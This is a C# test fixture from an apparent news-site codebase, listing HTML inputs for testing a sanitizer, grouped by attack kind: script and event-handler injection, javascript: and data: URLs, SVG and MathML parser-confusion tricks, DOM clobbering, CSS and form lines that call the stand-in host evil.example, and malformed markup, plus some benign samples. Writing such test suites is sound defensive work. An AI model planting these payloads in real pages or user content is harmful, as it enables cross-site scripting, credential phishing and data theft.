namespace Newsloom.Tests.Html;

/// <summary>One or two examples, of our own writing, for each kind of attack on sanitizers that is known.</summary>
internal static class Payloads
{
    public static readonly IReadOnlyList<string> All =
    [
        // What runs by itself.
        "<script>run()</script>", "<script src=//evil.example/x.js></script>", "<SCRIPT/x>run()</SCRIPT\t>", "<scr<script>ipt>run()</scr</script>ipt>",
        "<img src=x onerror=run()>", "<img/src/onerror=run()>", "<body onload=run()>", "<video><source onerror=run()></video>", "<details open ontoggle=run()>",
        "<input autofocus onfocus=run()>", "<marquee onstart=run()>", "<p onmouseover='run()' tabindex=1>text</p>", "<a href=x onclick=run()>text</a>",

        // Addresses that run.
        "<a href='javascript:run()'>text</a>", "<a href='&#x6A;avascript&colon;run()'>text</a>", "<a href=' &#1; javascript:run()'>text</a>",
        "<a href='java&Tab;script:run()'>text</a>", "<a href='data:text/html,<script>run()</script>'>text</a>", "<a href=vbscript:run()>text</a>",
        "<img src=javascript:run()>", "<img srcset='javascript:run() 1x'>", "<iframe src=javascript:run()></iframe>", "<form action=javascript:run()><button>go</button></form>",
        "<button formaction=javascript:run()>go</button>", "<object data=javascript:run()></object>", "<embed src=javascript:run()>", "<base href=javascript:run()//>",
        "<meta http-equiv=refresh content='0;url=javascript:run()'>", "<math href=javascript:run()>text</math>", "<link rel=stylesheet href=javascript:run()>",
        "<table background=javascript:run()>", "<a href='//evil.example' ping='//evil.example'>text</a>",

        // Pages within the page.
        "<iframe srcdoc='<script>run()</script>'></iframe>", "<svg onload=run()>", "<svg><script>run()</script></svg>", "<svg><a xlink:href=javascript:run()><text>x</text></a></svg>",
        "<svg><animate attributeName=href values=javascript:run() />", "<svg><use href='data:image/svg+xml,<svg id=x onload=run()>#x'/></svg>",
        "<frameset onload=run()><frame src=javascript:run()></frameset>",

        // Markup that changes its meaning when it is read again.
        "<svg></p><style><a id=\"</style><img src=1 onerror=run()>\">", "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=run()&gt;\">",
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=run()>", "<noscript><p title=\"</noscript><img src=x onerror=run()>\">",
        "<textarea><p title=\"</textarea><img src=x onerror=run()>\">", "<title><a title=\"</title><img src=x onerror=run()>\">", "<xmp><p title=\"</xmp><img src=x onerror=run()>\">",
        "<noembed><p title=\"</noembed><img src=x onerror=run()>\">", "<iframe><p title=\"</iframe><img src=x onerror=run()>\">", "<plaintext><img src=x onerror=run()>",
        "<!--><img src=x onerror=run()>-->", "<!--!><img src=x onerror=run()>", "<![CDATA[><img src=x onerror=run()>]]>", "<?xml><img src=x onerror=run()>?>",
        "<svg><![CDATA[</svg><img src=x onerror=run()>]]>", "<template><img src=x onerror=run()></template>", "<select><template><style></select><img src=x onerror=run()>",
        "<svg><foreignObject><p><svg><style><img src=x onerror=run()></style></svg></p></foreignObject></svg>", "<math><annotation-xml encoding=text/html><style><img src=x onerror=run()>",
        "<svg><desc><table><tr><td><title><a title='</title><img src=x onerror=run()>'>", "<a><table><a>text", "<p><table><tr><td><p><a><p><a>", "<b><table>text<tr><td></b>cell",
        "&lt;img src=x onerror=run()&gt;", "&amp;lt;img src=x onerror=run()&amp;gt;", "<p title='&lt;script&gt;run()&lt;/script&gt;'>text</p>", "<img alt=\"`onerror=run()\">",
        "<listing>&lt;img src=x onerror=run()&gt;</listing>", "<pre>\n\n\n<b>\n</b></pre>", "<isindex prompt=x action=javascript:run() type=image>", "<image src=x onerror=run()>",
        "<div><div><li><div><li><dd><li><dt><p><li>", "<h1><h2><h3>deep</h1></h2></h3>", "<ruby>漢<rp>(<rt>kan<rtc>x<rb>字<rt>ji</ruby>", "<button><p><button><p>text",
        "<dl><dt><dd><dl><dd><dt><div><dd>", "<table><caption><table><caption><td>x", "<table><td><form><table><tr><form>", "<nobr><nobr><b><i><u><b><i><u><b><b><b><b>text",

        // What takes over names of the page, its look, or its reader's way.
        "<img name=cookie><form id=document><input name=body></form>", "<a id=config href=//evil.example>x</a>", "<div style='position:fixed;inset:0'>cover</div>",
        "<style>*{background:url(//evil.example)}</style>", "<p style='width:expression(run())'>text</p>", "<div class='navbar danger' id=main>text</div>",
        "<a href=//evil.example target=_blank>text</a>", "<form action=//evil.example><input type=password></form>", "<keygen autofocus>", "<dialog open>Sign in again</dialog>",

        // What is broken.
        "<img src=\"", "<a href='", "<a <b <i", "<", "</", "<!", "<!--", "<a href=x/ >", "<p/onclick=run()/>", "<\0script>run()</script>", "<s\0cript>run()</script>",
        "\ufeff<script>run()</script>", "<img src=x\u00a0onerror=run()>", "<img src='x'onerror='run()'>", "<img \f src=x\u000bonerror=run()>", "<a href=\"x\"\"onclick=run()>text",

        // Ordinary markup, to be mixed with the rest.
        "<h2>The bridge</h2><p>It <em>opened</em> on <a href='https://news.example/a?b=1&c=2'>Friday</a>.</p>", "<ul><li>one<ul><li>two</ul><li>three</ul>",
        "<figure><img src=/a.jpg srcset='/a.jpg 1x, /b.jpg 2x' alt='A bridge'><figcaption>The bridge. <span>Photo: A. Roe</span></figcaption></figure>",
        "<table><caption>Tolls</caption><thead><tr><th scope=col>Year<th>Toll</thead><tr><td colspan=2>2026</table>", "<blockquote><p>“It holds.”</p></blockquote>",
        "<pre>a\n  b</pre>", "<p>漢字<ruby>漢<rt>かん</rt></ruby></p>", "<p dir=rtl lang=ar>الجسر</p>", "<iframe src=https://www.youtube.com/embed/abc title='The opening'></iframe>",
    ];
}
